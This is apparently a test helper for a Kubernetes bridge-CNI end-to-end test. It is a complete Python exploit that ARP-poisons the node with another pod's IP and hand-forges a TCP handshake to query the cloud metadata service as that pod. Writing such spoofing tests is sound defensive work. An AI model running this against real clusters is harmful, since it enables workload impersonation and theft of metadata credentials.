#!/usr/bin/env python3
"""A hostile pod on a bridge CNI, for test/e2e/bridge-spoof.slow.test.ts.

It tells the node, by ARP requests sent with another pod's IP as the sender and its own MAC, that
the other pod's IP is at its MAC; then it sends a TCP SYN to 169.254.169.254:80 from that IP,
receives the node's SYN-ACK (now addressed to its MAC), completes the handshake by hand and sends
one HTTP GET. Its own kernel never answers: the forged IP is not one of its addresses.

    forge_handshake.py <victim-ip> <gateway-ip> <path>

Prints one JSON line: {"status": <code>, "body": <text>} or {"error": <why>}. Needs CAP_NET_RAW
(an AF_PACKET socket); without it the error is a PermissionError. Stops within about 8 s.
"""
import fcntl
import json
import random
import socket
import struct
import sys
import threading
import time

IFACE = b'eth0'
DST_IP = '169.254.169.254'
DST_PORT = 80
ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
SIOCGIFADDR = 0x8915


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def own_ip():
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    packed = fcntl.ioctl(probe.fileno(), SIOCGIFADDR, struct.pack('256s', IFACE[:15]))
    return socket.inet_ntoa(packed[20:24])


def arp_frame(dst_mac, src_mac, op, sender_mac, sender_ip, target_mac, target_ip):
    arp = struct.pack('!HHBBH6s4s6s4s', 1, ETH_P_IP, 6, 4, op, sender_mac, socket.inet_aton(sender_ip), target_mac, socket.inet_aton(target_ip))
    return dst_mac + src_mac + struct.pack('!H', ETH_P_ARP) + arp


def resolve(sock, my_mac, my_ip, ip, deadline):
    """The MAC of `ip`, asked with an honest ARP request."""
    sock.send(arp_frame(b'\xff' * 6, my_mac, 1, my_mac, my_ip, b'\0' * 6, ip))
    while time.time() < deadline:
        frame = receive(sock, deadline)
        if frame is None or len(frame) < 42 or struct.unpack('!H', frame[12:14])[0] != ETH_P_ARP:
            continue
        op, sender_mac, sender_ip = struct.unpack('!H', frame[20:22])[0], frame[22:28], socket.inet_ntoa(frame[28:32])
        if op == 2 and sender_ip == ip:
            return sender_mac
    raise TimeoutError('no ARP reply from %s' % ip)


def receive(sock, deadline):
    sock.settimeout(max(0.01, deadline - time.time()))
    try:
        return sock.recv(65535)
    except socket.timeout:
        return None


def tcp_segment(src_ip, src_port, seq, ack, flags, payload=b''):
    header = struct.pack('!HHIIBBHHH', src_port, DST_PORT, seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = socket.inet_aton(src_ip) + socket.inet_aton(DST_IP) + struct.pack('!BBH', 0, socket.IPPROTO_TCP, len(header) + len(payload))
    header = header[:16] + struct.pack('!H', checksum(pseudo + header + payload)) + header[18:]
    return header + payload


def ip_packet(src_ip, segment):
    header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(segment), random.randint(0, 0xFFFF), 0x4000, 64, socket.IPPROTO_TCP, 0, socket.inet_aton(src_ip), socket.inet_aton(DST_IP))
    header = header[:10] + struct.pack('!H', checksum(header)) + header[12:]
    return header + segment


def attack(victim_ip, gateway_ip, path):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((IFACE.decode(), 0))
    my_mac = sock.getsockname()[4]
    deadline = time.time() + 8
    gw_mac = resolve(sock, my_mac, own_ip(), gateway_ip, deadline)

    stop = threading.Event()

    def poison():
        # An ARP request to the node from the victim's IP with our MAC: the node (re)learns the
        # victim's IP at our MAC, and keeps it while we repeat.
        frame = arp_frame(gw_mac, my_mac, 1, my_mac, victim_ip, b'\0' * 6, gateway_ip)
        while not stop.is_set():
            sock.send(frame)
            stop.wait(0.2)

    poisoner = threading.Thread(target=poison, daemon=True)
    poisoner.start()
    try:
        time.sleep(0.3)
        return handshake(sock, my_mac, gw_mac, victim_ip, path, deadline)
    finally:
        stop.set()


def handshake(sock, my_mac, gw_mac, victim_ip, path, deadline):
    eth = gw_mac + my_mac + struct.pack('!H', ETH_P_IP)
    send = lambda segment: sock.send(eth + ip_packet(victim_ip, segment))
    port = random.randint(40000, 60000)
    seq = random.randint(0, 0x7FFFFFFF)
    send(tcp_segment(victim_ip, port, seq, 0, 0x02))
    request = ('GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' % (path, DST_IP)).encode()
    expected = None
    data = b''
    while time.time() < deadline:
        frame = receive(sock, deadline)
        if frame is None or len(frame) < 54 or struct.unpack('!H', frame[12:14])[0] != ETH_P_IP:
            continue
        ip = frame[14:]
        ihl = (ip[0] & 0x0F) * 4
        if ip[9] != socket.IPPROTO_TCP or socket.inet_ntoa(ip[12:16]) != DST_IP or socket.inet_ntoa(ip[16:20]) != victim_ip:
            continue
        tcp = ip[ihl:struct.unpack('!H', ip[2:4])[0]]
        src_port, dst_port, their_seq, _, offset, flags = struct.unpack('!HHIIBB', tcp[:14])
        if src_port != DST_PORT or dst_port != port:
            continue
        payload = tcp[(offset >> 4) * 4:]
        if expected is None:
            if flags & 0x12 != 0x12:
                continue
            seq += 1
            expected = (their_seq + 1) & 0xFFFFFFFF
            send(tcp_segment(victim_ip, port, seq, expected, 0x18, request))
            seq += len(request)
            continue
        if their_seq == expected and payload:
            data += payload
            expected = (expected + len(payload)) & 0xFFFFFFFF
        if flags & 0x01:
            expected = (expected + 1) & 0xFFFFFFFF
            send(tcp_segment(victim_ip, port, seq, expected, 0x11))
            break
        send(tcp_segment(victim_ip, port, seq, expected, 0x10))
    if expected is None:
        return {'error': 'no SYN-ACK came back to this pod'}
    head, _, body = data.partition(b'\r\n\r\n')
    if not head:
        return {'error': 'the handshake completed but no answer came'}
    return {'status': int(head.split(b' ')[1]), 'body': body.decode(errors='replace')}


def main():
    victim_ip, gateway_ip, path = sys.argv[1:4]
    try:
        result = attack(victim_ip, gateway_ip, path)
    except PermissionError as error:
        result = {'error': 'PermissionError: %s' % error}
    except Exception as error:  # noqa: BLE001 - one JSON line whatever happens
        result = {'error': '%s: %s' % (type(error).__name__, error)}
    print(json.dumps(result))


if __name__ == '__main__':
    main()
